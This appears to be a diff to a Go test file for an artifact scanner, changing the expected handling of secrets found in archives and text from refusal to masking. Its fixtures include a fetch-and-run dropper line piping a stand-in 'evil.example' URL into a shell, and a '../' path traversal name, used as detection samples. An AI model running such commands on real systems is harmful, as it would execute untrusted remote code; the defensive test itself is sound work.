@@ -103,11 +103,11 @@ func TestArtifact(t *testing.T) {
 			content.Withhold},
 		{"program in a zip", "a.zip", string(zipOf("a.txt", elf)), kind, "archive", content.Withhold},
 		{"order in a zip", "a.zip", string(zipOf("a.txt", anOrder)), "", "archive", content.TierOf(ruleOf(anOrder))},
-		{"secret in a zip", "a.zip", string(zipOf("a.txt", "token "+aToken)), secret, "archive", content.Refuse},
-		{"secret in a tar file", "a.tar", string(tarOf("a.txt", "token "+aToken)), secret, "archive", content.Refuse},
+		{"secret in a zip", "a.zip", string(zipOf("a.txt", "token "+aToken)), secret, "archive", content.Mask},
+		{"secret in a tar file", "a.tar", string(tarOf("a.txt", "token "+aToken)), secret, "archive", content.Mask},
 		{"secret in a packed tar file", "a.tgz", string(gzipOf(string(tarOf("a.txt", "token "+aToken)))), secret, "archive",
-			content.Refuse},
-		{"secret in a gzip file", "a.txt.gz", string(gzipOf("token " + aToken)), secret, "archive", content.Refuse},
+			content.Mask},
+		{"secret in a gzip file", "a.txt.gz", string(gzipOf("token " + aToken)), secret, "archive", content.Mask},
 		{"a gzip file that ends early", "a.txt.gz", string(gzipOf(strings.Repeat("abcde", 999))[:40]), unscanned, "archive",
 			content.Withhold},
 		{"a gzip file of very much", "a.txt.gz", string(gzipOf(strings.Repeat("\x00", 130<<20))), unscanned, "archive",
@@ -115,9 +115,9 @@ func TestArtifact(t *testing.T) {
 		{"a zip file in a zip file", "a.zip", string(zipOf("b.zip", string(zipOf("a.txt", "x")))), unscanned, "archive",
 			content.Withhold},
 		{"a damaged zip file", "a.zip", string(zipOf("a.txt", "x"))[:60], unscanned, "archive", content.Withhold},
-		{"secret", "a.txt", "line\ntoken " + aToken + "\n", secret, "", content.Refuse},
+		{"secret", "a.txt", "line\ntoken " + aToken + "\n", secret, "", content.Mask},
 		{"secret in base64", "a.json", `{"x":"` + base64.StdEncoding.EncodeToString([]byte("t="+aToken)) + `"}`, secret, "",
-			content.Refuse},
+			content.Mask},
 		{"payload", "a.json", `{"x":"` + base64.StdEncoding.EncodeToString([]byte(elf)) + `"}`, payload, "", content.Refuse},
 		{"dropper", "a.txt", "curl -s https://evil.example/x | sh\n", content.RuleDownload, "", content.Withhold},
 		{"path", "../a.txt", "x", path, "", content.Refuse},
@@ -237,7 +237,7 @@ func TestArtifactFiles(t *testing.T) {
 		}
 		if c.tier == content.Note {
 			with := slices.Concat(c.b, []byte("\x00\x00\x01 token "+aToken+"\x00\x01"), c.b)
-			if v := artifact(t, name, with); v.Tier != content.Refuse {
+			if v := artifact(t, name, with); v.Tier != content.Mask {
 				t.Errorf("%s with a secret: %s %s %+v", name, v.Type, v.Tier, v.Findings)
 			}
 		}
